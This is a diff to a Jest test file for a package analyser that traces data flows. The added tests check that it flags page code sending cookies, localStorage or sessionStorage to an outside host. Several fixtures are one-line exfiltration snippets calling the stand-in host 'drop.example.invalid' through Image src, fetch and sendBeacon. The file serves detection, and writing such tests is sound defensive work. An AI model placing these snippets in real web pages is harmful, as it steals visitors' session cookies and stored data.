@@ -2,10 +2,10 @@ import { describe, expect, test } from '@jest/globals';
 import { profilePackage } from '../../../src/packages/profile/profile.js';
 import { filesOf } from './files.js';
 
-/** Ways of data of what a request brings: `sink trigger`. */
-function asked(text: string): readonly string[] {
+/** Ways of data of what a request brings, or of another source: `sink trigger`. */
+function asked(text: string, of = 'request'): readonly string[] {
   const { value } = profilePackage({ files: filesOf({ 'package.json': '{"name":"left","version":"1.0.0"}', 'index.js': text }) });
-  return [...new Set(value.flows.flatMap(({ source, sink, trigger }) => (source === 'request' ? [`${sink} ${trigger}`] : [])))].sort();
+  return [...new Set(value.flows.flatMap(({ source, sink, trigger }) => (source === of ? [`${sink} ${trigger}`] : [])))].sort();
 }
 
 describe('what a request to a server brings, and what runs it', () => {
@@ -21,4 +21,14 @@ describe('what a request to a server brings, and what runs it', () => {
     "require('http').createServer((q, s) => { s.end(q.url); }).listen(1);", "require('http').createServer((q, s) => { require('fs').createReadStream(q.url).pipe(s); }).listen(1);", "require('http').createServer((q, s) => { require('child_process').execFile('git', ['status', q.url]); }).listen(1);",
     "require('http').createServer((q, s) => { const t = require('child_process').execSync('git status'); s.end(t); }).listen(1);", "const s = require('net').createServer(); s.on('error', () => {}); eval('1');",
   ])('nothing of it: %s', (text) => { expect(asked(text)).toEqual([]); });
+});
+
+describe('what a page keeps for its visitor', () => {
+  test.each([
+    "new Image().src = 'https://drop.example.invalid/?c=' + encodeURIComponent(document.cookie);", "fetch('https://drop.example.invalid/', { method: 'POST', body: JSON.stringify(window.localStorage) });", "navigator.sendBeacon('https://drop.example.invalid/', JSON.stringify({ ...globalThis.sessionStorage }));", "const d = document; const c = d.cookie; fetch('https://drop.example.invalid/' + c);",
+  ])('%s', (text) => { expect(asked(text, 'page-storage')).toEqual(['network load']); });
+  test('sent when somebody calls', () => { expect(asked("exports.send = () => fetch('https://drop.example.invalid/' + document.cookie);", 'page-storage')).toEqual(['network call']); });
+  test.each([
+    "fetch('https://drop.example.invalid/' + localStorage.getItem('theme'));", "document.cookie = 'a=b'; fetch('https://drop.example.invalid/');", "const c = document.cookie; console.log(c); fetch('https://drop.example.invalid/');", "function f(localStorage) { fetch('https://drop.example.invalid/' + localStorage); }", "fetch('https://drop.example.invalid/' + record.cookie);",
+  ])('nothing of it: %s', (text) => { expect(asked(text, 'page-storage')).toEqual([]); });
 });
